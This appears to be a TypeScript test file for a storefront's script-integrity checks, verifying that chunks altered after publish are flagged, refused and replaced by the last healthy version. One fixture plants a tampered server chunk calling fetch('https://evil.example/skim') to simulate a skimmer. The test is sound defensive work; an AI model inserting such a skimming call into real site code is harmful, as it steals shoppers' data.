// Each published version's script hashes (issue 39, build 7), on a temporary deployment store: a
// file changed on the remote's server after publish is refused, and shoppers get the last healthy
// version (the host server marks the refused version broken; the rollout falls back).
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, test } from 'node:test';

import { readDeploymentRecord } from './deployment-record.js';
import { recordHealth } from './health.js';
import { changedScripts, createServerBuildHashesReader, scriptHash } from './integrity.js';
import { skewReasons } from './publish/skew-check.js';
import { inventoryText, scriptInventory } from './publish/script-inventory.js';
import { publishVersion } from './publish/store-writes.js';
import { createRolloutResolver } from './rollout.js';

const V1 = '20261129010000-aaaaaaa';
const V2 = '20261129020000-bbbbbbb';
const DEFAULTS = { catalog: 'http://localhost:3001/mf-manifest.json' };

let root: string;
let storeDir: string;
let hostDir: string;

const write = (file: string, text: string) => {
  mkdirSync(path.dirname(file), { recursive: true });
  writeFileSync(file, text);
};

/** Publishes a build (browser and server entry and chunk) of `remote` with a deployment record. */
function publishRemote(remote: string, version: string, tag: string) {
  const buildDir = path.join(root, `dist-${remote}-${version}`);
  write(path.join(buildDir, 'remoteEntry.js'), `// ${remote} entry ${tag}`);
  write(path.join(buildDir, 'static/js/102.js'), `// ${remote} chunk ${tag}`);
  write(path.join(buildDir, 'static/js/102.js.gz'), 'compressed copy');
  write(path.join(buildDir, 'mf-manifest.json'), '{}');
  write(path.join(buildDir, 'server/remoteEntry.js'), `// ${remote} server entry ${tag}`);
  write(path.join(buildDir, 'server/102.js'), `// ${remote} server chunk ${tag}`);
  publishVersion({
    buildDir,
    storeDir,
    remote,
    version,
    record: {
      version,
      remote,
      requires: {
        contract: { package: '@storefront/shared', version: '5.0.0', range: '^5.0.0', imports: [] },
        singletons: {},
      },
    },
  });
}

beforeEach(() => {
  root = mkdtempSync(path.join(tmpdir(), 'integrity-test-'));
  storeDir = path.join(root, 'store');
  hostDir = path.join(root, 'host-dist');
  write(
    path.join(hostDir, 'contract.json'),
    JSON.stringify({ contract: { package: '@storefront/shared', version: '5.0.0', exports: [] } }),
  );
  write(path.join(hostDir, 'mf-manifest.json'), JSON.stringify({ shared: [] }));
  publishRemote('catalog', V1, 'v1');
  publishRemote('catalog', V2, 'v2');
});
afterEach(() => rmSync(root, { recursive: true, force: true }));

describe('a published version', () => {
  test('records the SHA-384 of each script of its browser and server build (openssl dgst -sha384)', () => {
    assert.deepEqual(readDeploymentRecord(storeDir, 'catalog', V1)?.integrity, {
      'remoteEntry.js': 'sha384-zRW8SE+7P0AVJk3R/iZevKzPREQrGZ+kbWBmxwSsl70V3ro/0cFDeScX0mlcncO1',
      'server/102.js': 'sha384-VeOew7E/z5D5iKsDY3nEiiP9d/B4+C/IadMw5MQXiSckgmMAbeMtDhgLRW1a0bVB',
      'server/remoteEntry.js':
        'sha384-43iGlOz2VdHU1a4hHTxE/Hd4w3nwBrkktuWqeQDWd/V3kN/+oHLkBC9ew1TfbPup',
      'static/js/102.js': 'sha384-Js/+H4+7A9Vb0qmnizO0pIYuX4RWoxJOewW8+rt+sjC7oA3xhA7bHiDtX4/GMA/K',
    });
    assert.deepEqual(changedScripts(storeDir, 'catalog', V1), []);
  });
});

describe('a server chunk changed on the remote after publish', () => {
  test('is refused, and shoppers get the last healthy version', () => {
    write(
      path.join(storeDir, 'registry.json'),
      JSON.stringify({
        remotes: { catalog: { live: V2, canary: null, percent: 0, previous: [V1] } },
      }),
    );
    recordHealth(storeDir, 'catalog', V1, {
      state: 'healthy',
      at: '2026-11-29T01:00:00.000Z',
      reason: 'rendered on the server',
    });
    const started = performance.now();
    const tampered = path.join(storeDir, 'catalog', V2, 'server', '102.js');
    writeFileSync(tampered, '// catalog server chunk v2; fetch("https://evil.example/skim")');

    // The operator's tools name the file, and a promote of the version is refused.
    assert.deepEqual(changedScripts(storeDir, 'catalog', V2), [
      'server/102.js (changed since publish)',
    ]);
    assert.deepEqual(skewReasons(storeDir, 'catalog', V2, hostDir), [
      'has scripts that differ from their published hashes: server/102.js (changed since publish)',
    ]);

    // The host server's check before it evaluates the build: the bytes served are not the
    // published ones, so it records the version broken (host/src/server/server-build-integrity.ts).
    const published = createServerBuildHashesReader(storeDir)('catalog', V2);
    assert.notEqual(published?.['102.js'], scriptHash(readFileSync(tampered)));
    recordHealth(storeDir, 'catalog', V2, {
      state: 'broken',
      at: '2026-11-29T02:00:00.000Z',
      reason: 'server/102.js does not match the hash published for it: refused',
    });

    const rollout = createRolloutResolver({ storeDir, hostDir, log: () => {} });
    const { remotes, fallbacks } = rollout.resolve('DDDDDDDDDDDDDDDDDDDDDw', DEFAULTS, '/');
    assert.equal(remotes.catalog, `http://localhost:3001/versions/${V2}/mf-manifest.json`);
    assert.equal(fallbacks.catalog, `http://localhost:3001/versions/${V1}/mf-manifest.json`);
    console.log(`# tamper to fallback: ${(performance.now() - started).toFixed(1)} ms`);
  });

  test('leaves a version published before hashes were recorded unchecked', () => {
    const record = path.join(storeDir, 'catalog', V1, 'deployment.json');
    const { integrity: _dropped, ...older } = JSON.parse(readFileSync(record, 'utf8'));
    writeFileSync(record, JSON.stringify(older));
    writeFileSync(path.join(storeDir, 'catalog', V1, 'server', '102.js'), '// changed');
    assert.deepEqual(changedScripts(storeDir, 'catalog', V1), []);
    assert.equal(createServerBuildHashesReader(storeDir)('catalog', V1), null);
  });
});

describe('the inventory of the scripts a page type can load (npm run remotes -- scripts)', () => {
  test("lists /checkout/*'s scripts: the host's, every version shoppers may get of the remotes on it, each with its hash", () => {
    write(path.join(hostDir, 'main.js'), '// host main');
    write(path.join(hostDir, 'server/render-page.js'), '// not a browser script');
    publishRemote('cartCheckout', V1, 'v1');
    write(
      path.join(storeDir, 'registry.json'),
      JSON.stringify({
        remotes: {
          catalog: { live: V2, canary: null, percent: 0, previous: [V1] },
          cartCheckout: { live: V1, canary: null, percent: 0, previous: [] },
        },
      }),
    );
    writeFileSync(path.join(storeDir, 'catalog', V2, 'static/js/102.js'), '// skimmer');
    const inventory = scriptInventory({ storeDir, hostDir, pathname: '/checkout/payment' });
    assert.deepEqual(
      inventory.map(({ paths, remotes }) => ({ paths, remotes })),
      [{ paths: ['/checkout/*'], remotes: ['account', 'cartCheckout', 'catalog'] }],
    );
    const rows = inventoryText(inventory).split('\n');
    assert.equal(
      rows[0],
      '/checkout/*: 7 scripts from host, account, cartCheckout, catalog (1 CHANGED since publish)',
    );
    assert.deepEqual(
      rows.slice(2).map((row) => row.split(/\s{2,}/)),
      [
        [
          'host',
          '-',
          'every page',
          'main.js',
          'sha384-2ucj/kQBkAK5PXvn3ICT6p5W1HuV/RD2RWGRvXqdGcdYvVE0B0z/2k1CyE4XSlUa',
        ],
        [
          'cartCheckout',
          V1,
          'live',
          'remoteEntry.js',
          'sha384-97Id47UXLNYp+dUtrSKqVUI5mKl1M0wG96DtExai2ROLyEr784koMMELU4uhacR9',
        ],
        [
          'cartCheckout',
          V1,
          'live',
          'static/js/102.js',
          'sha384-wYy9uneHJiKHu2Aqa76cSv2KZcDlLBag9K1J56q1iq5OE7aReeCWrb9NjTE+ZJBY',
        ],
        [
          'catalog',
          V2,
          'live',
          'remoteEntry.js',
          'sha384-AtKcZ0CTckYBGMTSCbPy74usQSwsaE4fkcNfd6oTLqdcWKg7L9JzqK1Z5gVrnSox',
        ],
        [
          'catalog',
          V2,
          'live',
          'static/js/102.js',
          'sha384-XVRuxIPJGPXN7VTx1BpaShhZL8houWtv7ahSp8ssGBEQEaFfY0TFV65HoCHm9XeS',
          'CHANGED since publish',
        ],
        [
          'catalog',
          V1,
          'fallback',
          'remoteEntry.js',
          'sha384-zRW8SE+7P0AVJk3R/iZevKzPREQrGZ+kbWBmxwSsl70V3ro/0cFDeScX0mlcncO1',
        ],
        [
          'catalog',
          V1,
          'fallback',
          'static/js/102.js',
          'sha384-Js/+H4+7A9Vb0qmnizO0pIYuX4RWoxJOewW8+rt+sjC7oA3xhA7bHiDtX4/GMA/K',
        ],
      ],
    );
  });
});
